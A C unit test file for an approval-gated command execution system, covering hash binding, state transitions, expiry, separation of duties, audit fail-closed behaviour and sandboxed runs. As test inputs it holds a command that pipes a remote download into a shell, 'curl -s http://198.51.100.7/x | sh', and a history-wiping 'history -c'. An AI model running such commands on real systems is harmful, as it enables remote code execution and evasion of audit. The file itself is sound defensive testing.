/* test_workflow.c — the request lifecycle against a real store, audit log, policy and
 * lockbox: the approval hash binds every byte, illegal transitions are refused, approvals
 * and requests expire, nobody approves their own work or twice, a revoked clearance voids
 * an approval, the audit log failing stops the action, tampered bytes never run, and a
 * local run is capped in time and output and sees a scrubbed environment. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>
#include <openssl/evp.h>
#include <sqlite3.h>

#include "audit/sth.h"
#include "lockbox/lockbox.h"
#include "policy/policy.h"
#include "store/store.h"
#include "util/buf.h"
#include "util/err.h"
#include "workflow/workflow.h"

static const char extra_identity[] =
    "  - name: op-esc\n"
    "    roles: [operator, escort]\n"
    "    citizenship: [US]\n"
    "    location: US\n"
    "    clearance: secret\n"
    "    screening_expires: 2030-12-31\n"
    "    organization: dual\n";
static const char extra_target[] =
    "  - name: lab\n"
    "    environment: commercial\n"
    "    transport: local\n"
    "    settings:\n"
    "      platform: linux\n"
    "      timeout: 1s\n"
    "      workdir: /tmp\n";

struct fx {
	char dir[64];
	lockbox *lb;
	wf *w;
	buf policy; /* the test policy's bytes */
};

/* examples/policy.yaml plus an operator who is also an escort and a fast lab target */
static int
make_policy(buf *out, const char *esc1_clearance)
{
	buf src = BUF_INIT;
	const char *s, *id, *tg, *c;
	int rc;

	if ((rc = buf_read_file(&src, "examples/policy.yaml")) != 0)
		return rc;
	s = buf_cstr(&src);
	id = strstr(s, "identities:\n");
	tg = strstr(s, "targets:\n");
	if (id == NULL || tg == NULL || tg < id)
		return ESC_EPARSE;
	id += strlen("identities:\n");
	tg += strlen("targets:\n");
	buf_put(out, s, (size_t)(id - s));
	buf_puts(out, extra_identity);
	buf_put(out, id, (size_t)(tg - id));
	buf_puts(out, extra_target);
	buf_puts(out, tg);
	if (esc1_clearance) {
		/* esc-1 is the first "clearance: secret" after "name: esc-1" */
		char *p = strstr((char *)out->data, "name: esc-1");

		c = p ? strstr(p, "clearance: secret") : NULL;
		if (c == NULL)
			return ESC_EPARSE;
		{
			size_t off = (size_t)(c - (const char *)out->data) + strlen("clearance: ");
			buf rest = BUF_INIT;

			buf_puts(&rest, (const char *)out->data + off + strlen("secret"));
			buf_truncate(out, off);
			buf_puts(out, esc1_clearance);
			buf_put(out, rest.data, rest.len);
			buf_free(&rest);
		}
	}
	buf_free(&src);
	return 0;
}

static int
setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));
	buf err = BUF_INIT, msg = BUF_INIT;
	char e[512] = "";
	const char *rules = getenv("ESCORT_RULES");
	store *s = NULL;

	if (f == NULL)
		return -1;
	snprintf(f->dir, sizeof(f->dir), "/tmp/escort-test-wf-XXXXXX");
	if (mkdtemp(f->dir) == NULL)
		return -1;
	if (audit_key_generate(f->dir, e, sizeof(e)) != 0 ||
	    store_open_sqlite(&s, f->dir, 1, e, sizeof(e)) != 0) {
		fprintf(stderr, "setup: %s\n", e);
		return -1;
	}
	store_close(s);
	if (lockbox_load(&f->lb, rules && *rules ? rules : "rules", NULL, &err) != 0) {
		fprintf(stderr, "setup: %s\n", buf_cstr(&err));
		return -1;
	}
	if (make_policy(&f->policy, NULL) != 0 || wf_open(&f->w, f->dir, f->lb, e, sizeof(e)) != 0 ||
	    wf_policy_load(f->w, "test", (const char *)f->policy.data, f->policy.len, "test.yaml",
	                   NULL, &msg) != 0) {
		fprintf(stderr, "setup: %s %s\n", e, buf_cstr(&msg));
		return -1;
	}
	buf_free(&err);
	buf_free(&msg);
	*state = f;
	return 0;
}

static int
teardown(void **state)
{
	struct fx *f = *state;
	char cmd[256];

	wf_close(f->w);
	lockbox_free(f->lb);
	buf_free(&f->policy);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
	if (system(cmd) != 0)
		return -1;
	free(f);
	return 0;
}

/* Creates a one-command request; returns its id (asserting the expected result). */
static int64_t
create(struct fx *f, const char *who, const char *target, const char *cmd, size_t len,
       int want_rc, int *state)
{
	wf_new_request nr;
	const unsigned char *cmds[1] = { (const unsigned char *)cmd };
	size_t lens[1] = { len ? len : strlen(cmd) };
	buf msg = BUF_INIT;
	int64_t id = 0;
	int st = -1, rc;

	memset(&nr, 0, sizeof(nr));
	nr.target = target;
	nr.cmds = cmds;
	nr.lens = lens;
	nr.ncmds = 1;
	rc = wf_request_create(f->w, who, &nr, &id, &st, &msg);
	if (rc != want_rc)
		fprintf(stderr, "create %s: rc %d: %s\n", cmd, rc, buf_cstr(&msg));
	assert_int_equal(rc, want_rc);
	if (state)
		*state = st;
	buf_free(&msg);
	return id;
}

static int
approve(struct fx *f, const char *who, int64_t id, int *state, buf *why)
{
	buf msg = BUF_INIT;
	int rc = wf_request_approve(f->w, who, id, NULL, state, why ? why : &msg);

	buf_free(&msg);
	return rc;
}

static int
run(struct fx *f, const char *who, int64_t id, int *state, buf *why)
{
	buf msg = BUF_INIT;
	int rc = wf_request_run(f->w, who, id, state, why ? why : &msg);

	buf_free(&msg);
	return rc;
}

static char *
state_of(struct fx *f, int64_t id)
{
	store_request r;
	char *s;

	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	s = strdup(r.state);
	store_request_clear(&r);
	return s;
}

static void
assert_state(struct fx *f, int64_t id, const char *want)
{
	char *s = state_of(f, id);

	assert_string_equal(s, want);
	free(s);
}

static long long
raw(struct fx *f, const char *sql)
{
	char path[128];
	sqlite3 *db = NULL;
	sqlite3_stmt *st = NULL;
	long long v = -1;

	snprintf(path, sizeof(path), "%s/%s", f->dir, STORE_FILE);
	assert_int_equal(sqlite3_open(path, &db), SQLITE_OK);
	sqlite3_busy_timeout(db, 5000);
	assert_int_equal(sqlite3_prepare_v2(db, sql, -1, &st, NULL), SQLITE_OK);
	if (sqlite3_step(st) == SQLITE_ROW)
		v = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	sqlite3_close(db);
	return v;
}

/* ---- the approval hash ---- */

static void
hash_of(int64_t id, const char *target, const char *pv, const char *const *cmds, size_t n,
        unsigned char out[STORE_HASH_LEN])
{
	store_command c[4];
	size_t i;

	for (i = 0; i < n; i++) {
		c[i].bytes = (unsigned char *)cmds[i];
		c[i].len = strlen(cmds[i]);
		c[i].analysis = NULL;
	}
	assert_int_equal(wf_approval_hash(id, target, pv, c, n, out), 0);
}

static void
test_hash_binds_everything(void **state)
{
	unsigned char base[STORE_HASH_LEN], h[STORE_HASH_LEN];
	const char *one[] = { "systemctl status nginx" };
	const char *two[] = { "systemctl status nginx", "" };
	const char *split[] = { "systemctl status", " nginx" };
	char cmd[64];
	size_t i;
	int bit;

	(void)state;
	hash_of(7, "dod-web", "abc", one, 1, base);
	hash_of(7, "dod-web", "abc", one, 1, h);
	assert_memory_equal(base, h, STORE_HASH_LEN); /* deterministic */
	hash_of(8, "dod-web", "abc", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "com-web", "abc", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abd", one, 1, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abc", two, 2, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	hash_of(7, "dod-web", "abc", split, 2, h);
	assert_memory_not_equal(base, h, STORE_HASH_LEN);
	/* moving a byte between target and policy version changes it (length prefixes) */
	{
		unsigned char a[STORE_HASH_LEN], b[STORE_HASH_LEN];

		hash_of(7, "dod-webab", "c", one, 1, a);
		hash_of(7, "dod-web", "abc", one, 1, b);
		assert_memory_not_equal(a, b, STORE_HASH_LEN);
	}
	/* every single bit of the command matters */
	for (i = 0; i < strlen(one[0]); i++) {
		for (bit = 0; bit < 8; bit++) {
			const char *c[1] = { cmd };

			snprintf(cmd, sizeof(cmd), "%s", one[0]);
			cmd[i] = (char)(cmd[i] ^ (1 << bit));
			if (cmd[i] == 0)
				continue; /* would shorten the C string; covered by the length tests */
			hash_of(7, "dod-web", "abc", c, 1, h);
			assert_memory_not_equal(base, h, STORE_HASH_LEN);
		}
	}
	/* a trailing newline is a different command */
	{
		const char *nl[] = { "systemctl status nginx\n" };

		hash_of(7, "dod-web", "abc", nl, 1, h);
		assert_memory_not_equal(base, h, STORE_HASH_LEN);
	}
	assert_int_equal(wf_approval_hash(1, NULL, "x", NULL, 0, h), ESC_EINVAL);
}

static void
test_transition_table(void **state)
{
	int from, to, n = 0;

	(void)state;
	assert_true(wf_transition_ok(WF_CREATED, WF_ANALYZED));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_PENDING));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_APPROVED));
	assert_true(wf_transition_ok(WF_ANALYZED, WF_DENIED));
	assert_true(wf_transition_ok(WF_PENDING, WF_APPROVED));
	assert_true(wf_transition_ok(WF_APPROVED, WF_RUNNING));
	assert_true(wf_transition_ok(WF_RUNNING, WF_SUCCEEDED));
	assert_true(wf_transition_ok(WF_RUNNING, WF_FAILED));
	assert_true(wf_transition_ok(WF_PENDING, WF_EXPIRED));
	assert_true(wf_transition_ok(WF_APPROVED, WF_CANCELLED));
	/* the illegal ones */
	assert_false(wf_transition_ok(WF_PENDING, WF_RUNNING));  /* no run without approval */
	assert_false(wf_transition_ok(WF_CREATED, WF_APPROVED)); /* no decision without analysis */
	assert_false(wf_transition_ok(WF_DENIED, WF_APPROVED));
	assert_false(wf_transition_ok(WF_RUNNING, WF_APPROVED));
	assert_false(wf_transition_ok(WF_RUNNING, WF_CANCELLED)); /* a run is not undone */
	assert_false(wf_transition_ok(WF_SUCCEEDED, WF_RUNNING)); /* at most once */
	assert_false(wf_transition_ok(WF_FAILED, WF_RUNNING));
	assert_false(wf_transition_ok(WF_EXPIRED, WF_APPROVED));
	assert_false(wf_transition_ok(-1, WF_APPROVED));
	assert_false(wf_transition_ok(WF_PENDING, WF_NSTATES));
	/* terminal states go nowhere */
	for (from = 0; from < WF_NSTATES; from++)
		for (to = 0; to < WF_NSTATES; to++)
			if ((from == WF_DENIED || from == WF_SUCCEEDED || from == WF_FAILED ||
			     from == WF_CANCELLED || from == WF_EXPIRED) &&
			    wf_transition_ok(from, to))
				n++;
	assert_int_equal(n, 0);
	for (from = 0; from < WF_NSTATES; from++)
		assert_int_equal(wf_state_parse(wf_state_name(from)), from);
	assert_int_equal(wf_state_parse("bogus"), -1);
}

static void
test_lifecycle(void **state)
{
	struct fx *f = *state;
	buf why = BUF_INIT;
	int64_t id, own, r3;
	int st = -1;

	id = create(f, "op-in", "dod-web", "systemctl status nginx", 0, 0, &st);
	assert_int_equal(st, WF_PENDING);
	/* illegal moves through the API */
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	assert_state(f, id, "pending");
	assert_int_equal(wf_request_cancel(f->w, "esc-1", id, &why), WF_EREFUSED);
	assert_int_equal(approve(f, "aud-1", id, &st, NULL), WF_EREFUSED); /* not an escort */
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT); /* already approved */
	assert_int_equal(run(f, "aud-1", id, &st, NULL), WF_EREFUSED);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(st == WF_SUCCEEDED || st == WF_FAILED);
	/* at most once, and finished requests stay finished */
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(run(f, "esc-1", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(wf_request_cancel(f->w, "op-in", id, &why), WF_ECONFLICT);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, "late", &why), WF_ECONFLICT);
	assert_int_equal(wf_request_run(f->w, "op-in", 9999, &st, &why), WF_ENOTFOUND);

	/* nobody approves their own work, even an operator who is also an escort */
	buf_reset(&why);
	own = create(f, "op-esc", "dod-web", "uptime", 0, 0, &st);
	assert_int_equal(approve(f, "op-esc", own, &st, &why), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&why), "own request"));
	/* no double approval */
	r3 = create(f, "op-in", "dod-web", "curl -s http://198.51.100.7/x | sh", 0, 0, &st);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "esc-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_PENDING);
	buf_reset(&why);
	assert_int_equal(approve(f, "esc-1", r3, &st, &why), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&why), "already approved"));
	assert_int_equal(raw(f, "SELECT count(*) FROM approvals WHERE approver = 'esc-1' AND "
	                        "request_id = (SELECT max(id) FROM requests)"), 1);
	assert_int_equal(approve(f, "esc-2", r3, &st, NULL), 0);
	assert_int_equal(st, WF_PENDING);
	assert_int_equal(approve(f, "rev-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	/* deny needs a comment; the requester cannot deny; then it is final */
	id = create(f, "op-in", "dod-web", "id", 0, 0, &st);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, NULL, &why), ESC_EINVAL);
	assert_int_equal(wf_request_deny(f->w, "op-in", id, "x", &why), WF_EREFUSED);
	assert_int_equal(wf_request_deny(f->w, "esc-1", id, "no ticket", &why), 0);
	assert_state(f, id, "denied");
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT);
	assert_int_equal(run(f, "op-in", id, &st, NULL), WF_ECONFLICT);
	/* policy denials are stored as denied and refused */
	id = create(f, "op-cn", "dod-web", "uptime", 0, WF_EREFUSED, &st);
	assert_true(id > 0);
	assert_int_equal(st, WF_DENIED);
	id = create(f, "op-in", "dod-web", "history -c", 0, WF_EREFUSED, &st);
	assert_int_equal(st, WF_DENIED);
	/* auto-approval in commercial */
	create(f, "op-in", "com-web", "ls -la /srv", 0, 0, &st);
	assert_int_equal(st, WF_APPROVED);
	/* escorts do not create requests */
	create(f, "esc-1", "com-web", "ls", 0, WF_EREFUSED, &st);
	create(f, "op-in", "no-such-target", "ls", 0, WF_ENOTFOUND, &st);
	buf_free(&why);
}

static void
test_expiry(void **state)
{
	struct fx *f = *state;
	int64_t t0 = (int64_t)time(NULL) * 1000000, id, r3;
	int st = -1;
	store_approval *apv = NULL;
	size_t n = 0;

	wf_set_clock(f->w, t0);
	id = create(f, "op-in", "dod-web", "systemctl status nginx", 0, 0, &st); /* 4h lifetime */
	wf_set_clock(f->w, t0 + (int64_t)5 * 3600 * 1000000);
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), WF_ECONFLICT);
	assert_state(f, id, "expired");
	assert_int_equal(approve(f, "esc-2", id, &st, NULL), WF_ECONFLICT);

	/* approvals carry their own expiry (rule lifetime: 1h for high risk) */
	wf_set_clock(f->w, t0);
	r3 = create(f, "op-in", "dod-web", "curl -s http://198.51.100.7/x | sh", 0, 0, &st);
	wf_set_clock(f->w, t0 + (int64_t)600 * 1000000);
	assert_int_equal(approve(f, "esc-1", r3, &st, NULL), 0);
	assert_int_equal(approve(f, "rev-1", r3, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	assert_int_equal(store_approval_list(wf_store(f->w), r3, &apv, &n), 0);
	assert_int_equal(n, 2);
	assert_true(apv[0].expires_us == t0 + (int64_t)(600 + 3600) * 1000000);
	store_approvals_free(apv, n);
	/* past the lifetime the approved request no longer runs */
	wf_set_clock(f->w, t0 + (int64_t)3700 * 1000000);
	assert_int_equal(run(f, "op-in", r3, &st, NULL), WF_ECONFLICT);
	assert_state(f, r3, "expired");
	wf_set_clock(f->w, 0);
}

static void
test_revoked_clearance(void **state)
{
	struct fx *f = *state;
	buf p2 = BUF_INIT, msg = BUF_INIT;
	int64_t a, b;
	int st;
	char marker[128];

	snprintf(marker, sizeof(marker), "%s/revoked-ran", f->dir);
	{
		char cmd[256];

		snprintf(cmd, sizeof(cmd), "touch %s", marker);
		a = create(f, "op-in", "dod-web", cmd, 0, 0, &st);
	}
	assert_int_equal(approve(f, "esc-1", a, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
	b = create(f, "op-in", "dod-web", "uptime", 0, 0, &st);
	assert_int_equal(make_policy(&p2, "none"), 0);
	assert_int_equal(wf_policy_load(f->w, "test", (const char *)p2.data, p2.len, "p2.yaml", NULL,
	                                &msg), 0);
	buf_reset(&msg);
	assert_int_equal(approve(f, "esc-1", b, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "clearance"));
	buf_reset(&msg);
	assert_int_equal(run(f, "op-in", a, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "esc-1"));
	assert_int_equal(access(marker, F_OK), -1);
	assert_state(f, a, "approved"); /* still there for another escort */
	assert_int_equal(approve(f, "esc-2", a, &st, NULL), WF_ECONFLICT);
	buf_free(&p2);
	buf_free(&msg);
}

static void
test_policy_reload_errors_keep_old(void **state)
{
	struct fx *f = *state;
	buf msg = BUF_INIT;
	char before[65];
	static const char bad[] = "identities: [\n";

	snprintf(before, sizeof(before), "%s", policy_version(wf_policy(f->w)));
	assert_int_not_equal(wf_policy_load(f->w, "test", bad, sizeof(bad) - 1, "bad.yaml", NULL,
	                                    &msg), 0);
	assert_non_null(strstr(buf_cstr(&msg), "bad.yaml:"));
	assert_string_equal(policy_version(wf_policy(f->w)), before);
	assert_int_equal(raw(f, "SELECT count(*) FROM policies"), 1);
	buf_free(&msg);
}

static void
test_tokens(void **state)
{
	struct fx *f = *state;
	char t1[WF_TOKEN_LEN + 1], t2[WF_TOKEN_LEN + 1], name[64];
	buf msg = BUF_INIT;

	assert_int_equal(wf_token_issue(f->w, "test", "esc-1", t1, sizeof(t1), &msg), 0);
	assert_int_equal(strlen(t1), WF_TOKEN_LEN);
	assert_int_equal(strncmp(t1, WF_TOKEN_PREFIX, 4), 0);
	assert_int_equal(wf_authenticate(f->w, t1, name, sizeof(name), &msg), 0);
	assert_string_equal(name, "esc-1");
	assert_int_equal(wf_token_issue(f->w, "test", "esc-1", t2, sizeof(t2), &msg), 0);
	assert_string_not_equal(t1, t2);
	assert_int_equal(wf_authenticate(f->w, t1, name, sizeof(name), &msg), WF_EREFUSED);
	assert_int_equal(wf_authenticate(f->w, t2, name, sizeof(name), &msg), 0);
	assert_int_equal(wf_token_revoke(f->w, "test", "esc-1", &msg), 0);
	assert_int_equal(wf_authenticate(f->w, t2, name, sizeof(name), &msg), WF_EREFUSED);
	assert_int_equal(wf_token_revoke(f->w, "test", "esc-1", &msg), WF_ENOTFOUND);
	assert_int_equal(wf_token_issue(f->w, "test", "ghost", t1, sizeof(t1), &msg), WF_ENOTFOUND);
	assert_int_equal(wf_authenticate(f->w, "", name, sizeof(name), &msg), WF_EREFUSED);
	/* revoked: no row left; issued: only a 32-byte hash */
	assert_int_equal(raw(f, "SELECT count(*) FROM tokens"), 0);
	assert_int_equal(wf_token_issue(f->w, "test", "esc-2", t1, sizeof(t1), &msg), 0);
	assert_int_equal(raw(f, "SELECT length(hash) FROM tokens WHERE identity = 'esc-2'"), 32);
	buf_free(&msg);
}

static void
test_bad_input(void **state)
{
	struct fx *f = *state;
	static const char nul[] = "echo a\0b";
	static const char bad_utf8[] = "echo \xff\xfe \xc3\x28";
	wf_new_request nr;
	const unsigned char *cmds[1];
	size_t lens[1];
	buf msg = BUF_INIT;
	int64_t id = 0;
	int st;
	store_request r;
	json_t *j;
	json_error_t je;

	create(f, "op-in", "com-web", nul, sizeof(nul) - 1, ESC_EINVAL, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), 0); /* nothing half-written */
	id = create(f, "op-in", "com-web", bad_utf8, sizeof(bad_utf8) - 1, 0, &st);
	assert_true(st == WF_PENDING || st == WF_APPROVED || st == WF_DENIED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.cmds[0].len, sizeof(bad_utf8) - 1);
	assert_memory_equal(r.cmds[0].bytes, bad_utf8, sizeof(bad_utf8) - 1);
	j = json_loads(r.cmds[0].analysis, 0, &je); /* the analysis is valid JSON anyway */
	assert_non_null(j);
	json_decref(j);
	store_request_clear(&r);
	/* control characters in free text, empty commands */
	memset(&nr, 0, sizeof(nr));
	cmds[0] = (const unsigned char *)"ls";
	lens[0] = 2;
	nr.target = "com-web";
	nr.ticket = "CHG\x1b[2J";
	nr.cmds = cmds;
	nr.lens = lens;
	nr.ncmds = 1;
	assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_EINVAL);
	assert_non_null(strstr(buf_cstr(&msg), "ticket"));
	nr.ticket = NULL;
	lens[0] = 0;
	assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_EINVAL);
	{
		/* larger than a command may be (it must fit into its audit record) */
		unsigned char *big = malloc(WF_CMD_MAX + 1);

		assert_non_null(big);
		memset(big, 'a', WF_CMD_MAX + 1);
		cmds[0] = big;
		lens[0] = WF_CMD_MAX + 1;
		assert_int_equal(wf_request_create(f->w, "op-in", &nr, &id, &st, &msg), ESC_ETOOBIG);
		free(big);
	}
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), 1);
	buf_free(&msg);
}

static void
test_audit_fail_closed(void **state)
{
	struct fx *f = *state;
	char key[128], moved[128];
	int64_t before;
	int st;

	snprintf(key, sizeof(key), "%s/%s", f->dir, AUDIT_KEY_FILE);
	snprintf(moved, sizeof(moved), "%s/key.away", f->dir);
	before = raw(f, "SELECT count(*) FROM requests");
	assert_int_equal(rename(key, moved), 0);
	create(f, "op-in", "com-web", "ls -la /srv", 0, ESC_EIO, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), before); /* rolled back */
	assert_int_equal(rename(moved, key), 0);
	create(f, "op-in", "com-web", "ls -la /srv", 0, 0, &st);
	assert_int_equal(raw(f, "SELECT count(*) FROM requests"), before + 1);
}

static void
test_tampered_bytes_never_run(void **state)
{
	struct fx *f = *state;
	char cmd[256], sql[512], marker[128];
	buf msg = BUF_INIT;
	int64_t id;
	int st;

	snprintf(marker, sizeof(marker), "%s/tampered", f->dir);
	snprintf(cmd, sizeof(cmd), "echo ok");
	id = create(f, "op-in", "dod-web", cmd, 0, 0, &st);
	assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	snprintf(sql, sizeof(sql), "UPDATE commands SET bytes = CAST('touch %s' AS BLOB) "
	         "WHERE request_id = %lld RETURNING 1", marker, (long long)id);
	assert_int_equal(raw(f, sql), 1);
	assert_int_equal(run(f, "op-in", id, &st, &msg), WF_EREFUSED);
	assert_non_null(strstr(buf_cstr(&msg), "hash"));
	assert_int_equal(access(marker, F_OK), -1);
	assert_state(f, id, "approved");
	buf_free(&msg);
}

static void
approve_as_needed(struct fx *f, int64_t id, int st)
{
	if (st == WF_PENDING)
		assert_int_equal(approve(f, "esc-1", id, &st, NULL), 0);
	if (st == WF_PENDING)
		assert_int_equal(approve(f, "rev-1", id, &st, NULL), 0);
	assert_int_equal(st, WF_APPROVED);
}

static void
test_local_execution(void **state)
{
	struct fx *f = *state;
	store_request r;
	int64_t id;
	int st;
	time_t t0;
	unsigned char h[STORE_HASH_LEN], *zeros;
	char hex[2 * STORE_HASH_LEN + 1];
	size_t i;

	/* working directory and a scrubbed environment */
	setenv("ESCORT_TEST_SECRET", "leak", 1);
	id = create(f, "op-in", "lab", "pwd; echo \"[$ESCORT_TEST_SECRET][$ESCORT_TOKEN]\"; echo \"$ESCORT_REQUEST\"", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_SUCCEEDED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	{
		char want[64];

		snprintf(want, sizeof(want), "/tmp\n[][]\n%lld\n", (long long)id);
		assert_int_equal(r.output_len, strlen(want));
		assert_memory_equal(r.output, want, strlen(want));
	}
	assert_int_equal(r.exit_code, 0);
	store_request_clear(&r);
	unsetenv("ESCORT_TEST_SECRET");

	/* the time limit (1 s on lab) kills the whole process group */
	id = create(f, "op-in", "lab", "sleep 30", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_FAILED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.exit_code, 124);
	assert_non_null(strstr(r.result, "\"timed_out\":true"));
	store_request_clear(&r);

	/* closing its output does not let a command escape the time limit */
	id = create(f, "op-in", "lab", "exec >&- 2>&-; sleep 30", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_FAILED);
	/* a background child holding the output open does not hold the run */
	id = create(f, "op-in", "lab", "sleep 30 & echo started", 0, 0, &st);
	approve_as_needed(f, id, st);
	t0 = time(NULL);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_true(time(NULL) - t0 < 10);
	assert_int_equal(st, WF_SUCCEEDED);

	/* output is capped in the store but hashed in full */
	id = create(f, "op-in", "lab", "head -c 2000000 /dev/zero", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_SUCCEEDED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.output_len, STORE_OUTPUT_MAX);
	zeros = calloc(2000000, 1);
	assert_non_null(zeros);
	assert_int_equal(EVP_Digest(zeros, 2000000, h, NULL, EVP_sha256(), NULL), 1);
	free(zeros);
	for (i = 0; i < STORE_HASH_LEN; i++)
		snprintf(hex + 2 * i, 3, "%02x", h[i]);
	assert_string_equal(r.output_sha256, hex);
	assert_non_null(strstr(r.result, "\"truncated\":true"));
	assert_non_null(strstr(r.result, "\"output_bytes\":2000000"));
	store_request_clear(&r);

	/* a failing command: failed with its status */
	id = create(f, "op-in", "lab", "echo out; exit 3", 0, 0, &st);
	approve_as_needed(f, id, st);
	assert_int_equal(run(f, "op-in", id, &st, NULL), 0);
	assert_int_equal(st, WF_FAILED);
	assert_int_equal(store_request_get(wf_store(f->w), id, &r), 0);
	assert_int_equal(r.exit_code, 3);
	store_request_clear(&r);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_hash_binds_everything),
		cmocka_unit_test(test_transition_table),
		cmocka_unit_test_setup_teardown(test_lifecycle, setup, teardown),
		cmocka_unit_test_setup_teardown(test_expiry, setup, teardown),
		cmocka_unit_test_setup_teardown(test_revoked_clearance, setup, teardown),
		cmocka_unit_test_setup_teardown(test_policy_reload_errors_keep_old, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tokens, setup, teardown),
		cmocka_unit_test_setup_teardown(test_bad_input, setup, teardown),
		cmocka_unit_test_setup_teardown(test_audit_fail_closed, setup, teardown),
		cmocka_unit_test_setup_teardown(test_tampered_bytes_never_run, setup, teardown),
		cmocka_unit_test_setup_teardown(test_local_execution, setup, teardown),
	};
	return cmocka_run_group_tests_name("workflow", tests, NULL, NULL);
}
